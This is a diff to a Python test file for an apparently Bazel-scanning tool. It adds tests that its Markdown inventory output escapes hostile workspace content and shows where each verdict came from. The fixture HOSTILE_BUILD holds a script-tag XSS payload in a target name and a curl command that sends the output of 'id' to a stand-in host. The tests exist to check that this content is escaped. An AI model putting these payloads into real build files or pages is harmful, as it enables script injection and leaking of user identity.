@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from pathlib import Path
 
 import jsonschema
@@ -246,3 +247,43 @@ def test_actions_under_attribute_conditions_count_only_for_targets_that_can_reac
     }
     # `check` still reports every action: the code is there, whichever target reaches it.
     assert {d.span.start_line + 1 for d in scan(root).diagnostics if d.rule == "ambient-tool"} == {2, 9, 11}
+
+
+HOSTILE_BUILD = """genrule(
+    name = "a|b<script>alert(1)</script>",
+    outs = ["x.txt"],
+    cmd = "curl https://example.invalid/`id` > $@",
+)
+"""
+
+
+def _table_cells(row: str) -> list[str]:
+    """Split a Markdown table row the way GitHub does: on pipes not escaped with a backslash."""
+    return re.split(r"(?<!\\)\|", row.strip())[1:-1]
+
+
+def test_markdown_escapes_what_comes_from_the_workspace(tmp_path: Path) -> None:
+    root = write_tree(tmp_path / "ws", {"MODULE.bazel": "", "pkg/BUILD.bazel": HOSTILE_BUILD})
+    out = render_inventory(scan(root).inventory, "markdown")
+    assert "<script>" not in out and "&lt;script&gt;" in out
+    rows = [line for line in out.splitlines() if line.startswith("| ") and "//pkg:" in line]
+    assert len(rows) == 1
+    header = next(line for line in out.splitlines() if line.startswith("| Target |"))
+    assert len(_table_cells(rows[0])) == len(_table_cells(header)) == 7
+
+
+def test_markdown_shows_each_verdicts_provenance() -> None:
+    workspace = CORPUS / "inventory-mixed"
+    inventory = scan(workspace, load_config(workspace).options()).inventory
+    out = render_inventory(inventory, "markdown")
+    header = _table_cells(next(line for line in out.splitlines() if line.startswith("| Target |")))
+    column = [cell.strip() for cell in header].index("Verdict source")
+    seen = {}
+    for line in out.splitlines():
+        if line.startswith("| `//"):
+            cells = _table_cells(line)
+            seen[cells[0].strip().strip("`")] = cells[column].strip()
+    by_label = {t.label: t.provenance for t in inventory.targets}
+    assert seen.keys() == by_label.keys()
+    assert seen["//services/api:release"].startswith("knowledge")
+    assert all(seen[label].split()[0] == provenance for label, provenance in by_label.items())
